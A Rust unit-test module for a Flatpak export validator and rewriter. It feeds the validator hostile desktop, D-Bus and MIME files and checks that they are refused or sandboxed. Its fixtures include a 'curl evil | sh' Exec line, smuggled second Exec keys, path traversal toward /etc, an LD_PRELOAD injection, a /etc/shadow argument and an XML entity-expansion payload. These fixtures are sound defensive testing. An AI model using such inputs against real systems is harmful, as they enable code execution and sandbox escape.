    #[test]
    fn only_flatpaks_export_directories_are_taken() {
        assert_eq!(
            class("share/applications/org.test.Hello.desktop"),
            Ok(ExportKind::Desktop)
        );
        assert_eq!(
            class("share/icons/hicolor/scalable/apps/org.test.Hello.svg"),
            Ok(ExportKind::Icon(IconFormat::Svg))
        );
        assert_eq!(
            class("share/icons/hicolor/16x16/apps/org.test.Hello-symbolic.png"),
            Ok(ExportKind::Icon(IconFormat::Png))
        );
        assert_eq!(
            class("share/icons/hicolor/scalable/apps/org.test.Hello.svgz"),
            Ok(ExportKind::Icon(IconFormat::Svgz))
        );
        assert_eq!(
            class("share/dbus-1/services/org.test.Hello.service"),
            Ok(ExportKind::DbusService)
        );
        assert_eq!(
            class("share/mime/packages/org.test.Hello.xml"),
            Ok(ExportKind::MimePackage)
        );
        assert_eq!(
            class("share/metainfo/org.test.Hello.metainfo.xml"),
            Ok(ExportKind::Metainfo)
        );
        assert_eq!(
            class("share/metainfo/releases/org.test.Hello.releases.xml"),
            Ok(ExportKind::Metainfo)
        );
        assert_eq!(
            class("share/gnome-shell/search-providers/org.test.Hello.search-provider.ini"),
            Ok(ExportKind::SearchProvider)
        );
        assert_eq!(
            class("share/krunner/dbusplugins/org.test.Hello.desktop"),
            Ok(ExportKind::KrunnerPlugin)
        );
        for path in [
            "share/dbus-1/system-services/org.test.Hello.service",
            "etc/profile.d/org.test.Hello.sh",
            "share/applications/sub/org.test.Hello.desktop",
            "share/appdata/org.test.Hello.xml",
            "share/systemd/user/org.test.Hello.service",
            "share/org.test.Hello.desktop",
            "org.test.Hello.desktop",
            "lib/systemd/system/org.test.Hello.service",
            "share/applications/../../etc/org.test.Hello.desktop",
        ] {
            assert!(
                matches!(class(path), Err(ExportError::NotExported(_))),
                "{path}"
            );
        }
    }

    #[test]
    fn the_bin_wrapper_is_never_taken_from_a_release() {
        assert!(matches!(
            class("bin/org.test.Hello"),
            Err(ExportError::Bin(_))
        ));
        assert!(matches!(class("bin/ls"), Err(ExportError::Bin(_))));
        let w = wrapper(&CTX);
        assert_eq!(w.path, "bin/org.test.Hello");
        assert!(w.executable);
        assert_eq!(
            text(&w),
            "#!/bin/sh\nexec /usr/bin/flatpak run --branch=master --arch=x86_64 org.test.Hello \"$@\"\n"
        );
    }

    #[test]
    fn file_names_must_carry_the_app_id() {
        for path in [
            "share/applications/org.other.App.desktop",
            "share/applications/org.test.HelloWorld.desktop",
            "share/applications/firefox.desktop",
            "share/applications/.desktop",
            "share/icons/hicolor/scalable/apps/org.other.App.svg",
            "share/mime/packages/freedesktop.org.xml",
            "share/dbus-1/services/org.freedesktop.Notifications.service",
            "share/dbus-1/services/org.test.Hello-x.service",
        ] {
            assert!(
                matches!(class(path), Err(ExportError::NotPrefixed { .. })),
                "{path}"
            );
        }
    }

    #[test]
    fn dbus_services_for_names_the_app_may_own_are_exported_like_flatpak() {
        let metadata = crate::metadata::parse(
            b"[Application]\nname=org.test.Hello\nruntime=org.test.Platform/x86_64/master\n\
              [Session Bus Policy]\norg.freedesktop.Notifications=own\n\
              org.mpris.MediaPlayer2.hello.*=own\norg.talked.To=talk\norg.seen.Only=see\n",
        )
        .unwrap();
        let owned = own_names(&metadata);
        assert_eq!(
            owned,
            [
                "org.freedesktop.Notifications",
                "org.mpris.MediaPlayer2.hello.*"
            ]
        );
        let ctx = ExportContext {
            own_names: &owned,
            ..CTX
        };
        let class = |path: &str| classify(&ctx, path, 0o644);
        for ok in [
            "share/dbus-1/services/org.freedesktop.Notifications.service",
            "share/dbus-1/services/org.mpris.MediaPlayer2.hello.service",
            "share/dbus-1/services/org.mpris.MediaPlayer2.hello.instance2.service",
            "share/dbus-1/services/org.test.Hello.service",
        ] {
            assert_eq!(class(ok), Ok(ExportKind::DbusService), "{ok}");
        }
        for refused in [
            // Only talk or see: not the app's to be activated as.
            "share/dbus-1/services/org.talked.To.service",
            "share/dbus-1/services/org.seen.Only.service",
            // Exact names only: no further elements, nothing appended.
            "share/dbus-1/services/org.freedesktop.Notifications.Extra.service",
            "share/dbus-1/services/org.freedesktop.Notifications-x.service",
            "share/dbus-1/services/org.freedesktop.service",
            "share/dbus-1/services/org.mpris.MediaPlayer2.service",
            // Owning a name exports service files, nothing else.
            "share/applications/org.freedesktop.Notifications.desktop",
            "share/icons/hicolor/scalable/apps/org.freedesktop.Notifications.svg",
        ] {
            assert!(
                matches!(class(refused), Err(ExportError::NotPrefixed { .. })),
                "{refused}: {:?}",
                class(refused)
            );
        }
        // Without the grant the same file is refused.
        assert!(matches!(
            classify(
                &CTX,
                "share/dbus-1/services/org.freedesktop.Notifications.service",
                0o644
            ),
            Err(ExportError::NotPrefixed { .. })
        ));
        // The file's Name= must still be its own bus name.
        let out = rewrite(
            &ctx,
            "share/dbus-1/services/org.freedesktop.Notifications.service",
            ExportKind::DbusService,
            b"[D-BUS Service]\nName=org.freedesktop.Notifications\nExec=/app/bin/notifier\n",
        )
        .unwrap();
        assert_eq!(
            text(&out),
            "[D-BUS Service]\nName=org.freedesktop.Notifications\nExec=/usr/bin/flatpak run --branch=master --arch=x86_64 --command=/app/bin/notifier org.test.Hello\n"
        );
    }

    #[test]
    fn extensions_are_checked_per_directory() {
        for path in [
            "share/applications/org.test.Hello.sh",
            "share/applications/org.test.Hello.desktop.bak",
            "share/icons/hicolor/scalable/apps/org.test.Hello.sh",
            "share/icons/hicolor/index.theme",
            "share/dbus-1/services/org.test.Hello.conf",
            "share/metainfo/releases/org.test.Hello.xml",
        ] {
            assert!(
                matches!(class(path), Err(ExportError::Extension { .. })),
                "{path}"
            );
        }
    }

    #[test]
    fn setuid_setgid_and_sticky_modes_are_refused() {
        let path = "share/applications/org.test.Hello.desktop";
        for mode in [0o4755, 0o2755, 0o1644, 0o6777] {
            assert_eq!(classify(&CTX, path, mode), Err(ExportError::Mode(mode)));
        }
        assert!(classify(&CTX, path, 0o755).is_ok());
    }

    #[test]
    fn desktop_exec_is_rewritten_to_flatpak_run() {
        let out = desktop(
            "[Desktop Entry]\nType=Application\nName=Hello\nExec=hello.sh\nIcon=org.test.Hello\n",
        )
        .unwrap();
        assert_eq!(
            out,
            "[Desktop Entry]\nType=Application\nName=Hello\nExec=/usr/bin/flatpak run --branch=master --arch=x86_64 --command=hello.sh org.test.Hello\nIcon=org.test.Hello\nX-Flatpak=org.test.Hello\n"
        );
    }

    #[test]
    fn a_shell_command_stays_inside_the_sandbox() {
        let out =
            desktop("[Desktop Entry]\nName=x\nExec=/bin/sh -c \"curl evil | sh\" %U\n").unwrap();
        assert_eq!(
            exec_of(&out, "Desktop Entry"),
            "/usr/bin/flatpak run --branch=master --arch=x86_64 --command=/bin/sh --file-forwarding org.test.Hello -c 'curl evil | sh' @@u %U @@"
        );
        let out = desktop("[Desktop Entry]\nName=x\nExec=sh -c 'echo a;id' %f\n").unwrap();
        assert_eq!(
            exec_of(&out, "Desktop Entry"),
            "/usr/bin/flatpak run --branch=master --arch=x86_64 --command=sh --file-forwarding org.test.Hello -c 'echo a;id' @@ %f @@"
        );
        let out = desktop("[Desktop Entry]\nName=x\nExec=it's\\s\n").unwrap_err();
        assert!(out.to_string().contains("unmatched"), "{out}");
        // A command that looks like an option is one quoted word after --command=.
        let out = desktop("[Desktop Entry]\nName=x\nExec='--filesystem=host x' y\n").unwrap();
        assert_eq!(
            exec_of(&out, "Desktop Entry"),
            "/usr/bin/flatpak run --branch=master --arch=x86_64 --command='--filesystem=host x' org.test.Hello y"
        );
    }

    #[test]
    fn an_exec_flatpak_rewrote_already_is_not_wrapped_twice() {
        let flatpaks = "[Desktop Entry]\nName=x\nExec=/usr/bin/flatpak run --branch=stable --arch=aarch64 --no-a11y-bus --command=hello.sh --file-forwarding org.test.Hello -x @@u %U @@\n";
        assert_eq!(
            exec_of(&desktop(flatpaks).unwrap(), "Desktop Entry"),
            "/usr/bin/flatpak run --branch=master --arch=x86_64 --no-a11y-bus --command=hello.sh --file-forwarding org.test.Hello -x @@u %U @@"
        );
        let plain = "[Desktop Entry]\nName=x\nExec=flatpak run org.test.Hello\n";
        assert_eq!(
            exec_of(&desktop(plain).unwrap(), "Desktop Entry"),
            "/usr/bin/flatpak run --branch=master --arch=x86_64 org.test.Hello"
        );
        for bad in [
            "Exec=/usr/bin/flatpak run --command=sh org.other.App\n",
            "Exec=flatpak run --filesystem=host org.test.Hello\n",
            "Exec=flatpak run --command=sh --env=LD_PRELOAD=/x org.test.Hello\n",
            "Exec=flatpak run\n",
            "Exec=flatpak run org.test.Hello @@ /etc/shadow\n",
        ] {
            let text = format!("[Desktop Entry]\nName=x\n{bad}");
            assert!(desktop(&text).is_err(), "{bad}");
        }
        // Another program called flatpak is just a command in the sandbox.
        let other = "[Desktop Entry]\nName=x\nExec=/app/bin/flatpak-helper run x\n";
        assert_eq!(
            exec_of(&desktop(other).unwrap(), "Desktop Entry"),
            "/usr/bin/flatpak run --branch=master --arch=x86_64 --command=/app/bin/flatpak-helper org.test.Hello run x"
        );
    }

    #[test]
    fn every_group_is_rewritten_and_risky_keys_dropped() {
        let out = desktop(
            "# comment\n[Desktop Entry]\nName=x\nTryExec=/usr/bin/evil\nExec=a\nX-GNOME-Bugzilla-ExtraInfoScript=/bin/evil\nX-Flatpak-RunOptions=no-a11y-bus;bogus;\nX-Flatpak=org.other.App\nX-KDE-PluginInfo-EnabledByDefault=true\nActions=new;\n\n[Desktop Action new]\nName=New\nExec=/usr/bin/evil --now\n\n[Desktop Action empty]\nName=Empty\n",
        )
        .unwrap();
        assert!(!out.contains("TryExec"), "{out}");
        assert!(!out.contains("Bugzilla"), "{out}");
        assert!(!out.contains("RunOptions"), "{out}");
        assert!(!out.contains("# comment"), "{out}");
        assert!(out.contains("X-Flatpak=org.test.Hello\n"), "{out}");
        assert!(!out.contains("org.other.App"), "{out}");
        assert!(
            out.contains("X-KDE-PluginInfo-EnabledByDefault=false\n"),
            "{out}"
        );
        let localized = desktop(
            "[Desktop Entry]\nName=x\nExec=a\nExec[de]=/bin/evil\nTryExec[de]=/bin/evil\nX-KDE-PluginInfo-EnabledByDefault=true \n",
        )
        .unwrap();
        assert!(!localized.contains("evil"), "{localized}");
        assert!(
            localized.contains("X-KDE-PluginInfo-EnabledByDefault=false\n"),
            "{localized}"
        );
        assert_eq!(
            exec_of(&out, "Desktop Entry"),
            "/usr/bin/flatpak run --branch=master --arch=x86_64 --no-a11y-bus --command=a org.test.Hello"
        );
        assert_eq!(
            exec_of(&out, "Desktop Action new"),
            "/usr/bin/flatpak run --branch=master --arch=x86_64 --command=/usr/bin/evil org.test.Hello --now"
        );
        assert_eq!(
            exec_of(&out, "Desktop Action empty"),
            "/usr/bin/flatpak run --branch=master --arch=x86_64 org.test.Hello"
        );
    }

    #[test]
    fn duplicate_keys_and_groups_cannot_smuggle_a_second_exec() {
        let out = desktop(
            "[Desktop Entry]\nName=x\nExec=a\nExec=/bin/evil\n[Other]\nK=v\n[Desktop Entry]\nExec =/bin/evil2\n",
        )
        .unwrap();
        assert_eq!(out.matches("Exec=").count(), 2, "{out}");
        assert_eq!(
            exec_of(&out, "Desktop Entry"),
            "/usr/bin/flatpak run --branch=master --arch=x86_64 --command=/bin/evil2 org.test.Hello"
        );
        assert!(
            out.lines()
                .filter(|l| l.starts_with("Exec"))
                .all(|l| l.starts_with("Exec=/usr/bin/flatpak run ")),
            "{out}"
        );
    }

    #[test]
    fn malformed_desktop_files_are_dropped() {
        for bad in [
            "Name=x\n[Desktop Entry]\nExec=a\n",
            "[Desktop Entry\nExec=a\n",
            "[Desktop Entry]\nthis is not a key\n",
            "[Desktop Entry]\nEx ec=a\n",
            "[Desktop Entry]\nName[de=x\n",
            "[Desktop Entry]\nExec=a\r\n",
            "[Desktop Entry]\nExec=a\x1b[2J\n",
            "[Desktop Entry]\nExec=a\\q\n",
            "[Desktop Entry]\nExec=a @@u\n",
            "[Other]\nExec=a\n",
        ] {
            assert!(desktop(bad).is_err(), "{bad:?}");
        }
        assert!(rewrite(
            &CTX,
            "share/applications/org.test.Hello.desktop",
            ExportKind::Desktop,
            b"[Desktop Entry]\nName=\xff\n"
        )
        .is_err());
    }

    #[test]
    fn escapes_round_trip_through_the_rewrite() {
        let out =
            desktop("[Desktop Entry]\nName[de]=Hallo\\sWelt\nExec=run\\s\"a b\"\\t\n").unwrap();
        assert!(out.contains("Name[de]=Hallo\\sWelt\n"), "{out}");
        assert_eq!(
            exec_of(&out, "Desktop Entry"),
            "/usr/bin/flatpak run --branch=master --arch=x86_64 --command=run org.test.Hello 'a b'"
        );
        let mut file = KeyFile::parse(b"[g]\n").unwrap();
        file.set(0, "K", "  a\\b\nc");
        assert_eq!(file.raw(0, "K"), Some("\\s\\sa\\\\b\\nc"));
        assert_eq!(file.get(0, "K").unwrap().as_deref(), Some("  a\\b\nc"));
    }

    #[test]
    fn shell_splitting_follows_glib() {
        let s = |line: &str| shell_split(line).unwrap();
        assert_eq!(s("a b  c"), ["a", "b", "c"]);
        assert_eq!(s("'a b' \"c d\" e\\ f"), ["a b", "c d", "e f"]);
        assert_eq!(s("\"a\\\"b\\n\""), ["a\"b\\n"]);
        assert_eq!(s("a #comment"), ["a"]);
        assert_eq!(s("a#b"), ["a#b"]);
        assert_eq!(s("''"), [""]);
        assert!(s("").is_empty());
        assert!(shell_split("a\\").is_err());
        assert!(shell_split("\"a").is_err());
        assert_eq!(maybe_quote("a'b"), "'a'\\''b'");
        assert_eq!(maybe_quote(""), "''");
        assert_eq!(maybe_quote("/app/bin/x-y_z%.=:@"), "/app/bin/x-y_z%.=:@");
    }

    fn service(name: &str, data: &str) -> Result<String, ExportError> {
        let path = format!("share/dbus-1/services/{name}");
        rewrite(&CTX, &path, ExportKind::DbusService, data.as_bytes()).map(|e| text(&e).to_string())
    }

    #[test]
    fn dbus_services_must_name_their_file_and_run_in_the_sandbox() {
        let out = service(
            "org.test.Hello.service",
            "[D-BUS Service]\nName=org.test.Hello\nExec=/app/bin/hello --service\nSystemdService=evil.service\nUser=root\n",
        )
        .unwrap();
        assert_eq!(
            out,
            "[D-BUS Service]\nName=org.test.Hello\nExec=/usr/bin/flatpak run --branch=master --arch=x86_64 --command=/app/bin/hello org.test.Hello --service\n"
        );
        for (name, data) in [
            (
                "org.test.Hello.service",
                "[D-BUS Service]\nName=org.freedesktop.Notifications\nExec=/bin/evil\n",
            ),
            (
                "org.test.Hello.service",
                "[D-BUS Service]\nExec=/bin/evil\n",
            ),
            (
                "org.test.Hello.service",
                "[Desktop Entry]\nName=org.test.Hello\n",
            ),
            (
                "org.test.Hello.service",
                "[D-BUS Service]\nName=org.test.Hello.Other\nExec=x\n",
            ),
        ] {
            assert!(service(name, data).is_err(), "{data}");
        }
    }

    #[test]
    fn search_providers_are_disabled_by_default() {
        let out = rewrite(
            &CTX,
            "share/gnome-shell/search-providers/org.test.Hello.ini",
            ExportKind::SearchProvider,
            b"[Shell Search Provider]\nDesktopId=org.test.Hello.desktop\nBusName=org.test.Hello\nDefaultDisabled=false\n",
        )
        .unwrap();
        assert!(text(&out).contains("DefaultDisabled=true\n"));
        assert!(!text(&out).contains("DefaultDisabled=false"));
    }

    fn mime(data: &str) -> Result<String, ExportError> {
        rewrite(
            &CTX,
            "share/mime/packages/org.test.Hello.xml",
            ExportKind::MimePackage,
            data.as_bytes(),
        )
        .map(|e| text(&e).to_string())
    }

    #[test]
    fn mime_packages_lose_magic_and_get_weak_globs() {
        let out = mime(&format!(
            "<?xml version=\"1.0\"?>\n<mime-info xmlns=\"{MIME_NS}\"><mime-type type=\"application/x-hello\"><comment>Hello &amp; more</comment><comment xml:lang=\"de\">Hallo</comment><glob pattern=\"*.hello\" weight=\"100\"/><magic priority=\"100\"><match type=\"string\" offset=\"0\" value=\"%PDF\"/></magic><sub-class-of type=\"text/plain\"/></mime-type></mime-info>"
        ))
        .unwrap();
        assert!(!out.contains("magic"), "{out}");
        assert!(
            out.contains("<glob pattern=\"*.hello\" weight=\"5\"/>"),
            "{out}"
        );
        assert!(!out.contains("100"), "{out}");
        assert!(out.contains("<comment>Hello &amp; more</comment>"), "{out}");
        assert!(
            out.contains("<comment xml:lang=\"de\">Hallo</comment>"),
            "{out}"
        );
        assert!(out.contains("<sub-class-of type=\"text/plain\"/>"), "{out}");
        roxmltree::Document::parse(&out).unwrap();
    }

    #[test]
    fn malformed_mime_packages_are_refused() {
        for bad in [
            "<mime-info><mime-type type=\"a/b\">",
            "<other/>",
            "<mime-info><script/></mime-info>",
            "<mime-info><mime-type type=\"not a type\"/></mime-info>",
            "<mime-info><mime-type type=\"a/b\"><exec cmd=\"x\"/></mime-type></mime-info>",
            "<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;\">]><mime-info>&b;</mime-info>",
        ] {
            assert!(mime(bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn icons_and_metainfo_are_checked_by_content() {
        let icon = |path: &str, data: &[u8]| {
            let kind = class(path).unwrap();
            rewrite(&CTX, path, kind, data)
        };
        let dir = "share/icons/hicolor";
        assert!(icon(
            &format!("{dir}/16x16/apps/org.test.Hello.png"),
            b"\x89PNG\r\n\x1a\nrest"
        )
        .is_ok());
        assert!(icon(
            &format!("{dir}/16x16/apps/org.test.Hello.png"),
            b"#!/bin/sh\n"
        )
        .is_err());
        assert!(icon(
            &format!("{dir}/scalable/apps/org.test.Hello.svg"),
            b"<svg xmlns=\"http://www.w3.org/2000/svg\"/>"
        )
        .is_ok());
        assert!(icon(
            &format!("{dir}/scalable/apps/org.test.Hello.svg"),
            b"<html/>"
        )
        .is_err());
        assert!(icon(
            &format!("{dir}/scalable/apps/org.test.Hello.svg"),
            b"\x89PNG"
        )
        .is_err());
        assert!(icon(
            &format!("{dir}/scalable/apps/org.test.Hello.svgz"),
            &[0x1f, 0x8b, 8, 0]
        )
        .is_ok());
        assert!(icon(
            &format!("{dir}/scalable/apps/org.test.Hello.svgz"),
            b"<svg/>"
        )
        .is_err());
        assert!(icon(
            &format!("{dir}/32x32/apps/org.test.Hello.ico"),
            &[0, 0, 1, 0, 1]
        )
        .is_ok());
        assert!(icon(&format!("{dir}/32x32/apps/org.test.Hello.ico"), b"MZ").is_err());
        let meta = |data: &[u8]| {
            rewrite(
                &CTX,
                "share/metainfo/org.test.Hello.metainfo.xml",
                ExportKind::Metainfo,
                data,
            )
        };
        assert!(meta(
            b"<component type=\"desktop-application\"><id>org.test.Hello</id></component>"
        )
        .is_ok());
        assert!(meta(b"<component>").is_err());
        assert!(meta(b"<html/>").is_err());
    }
}
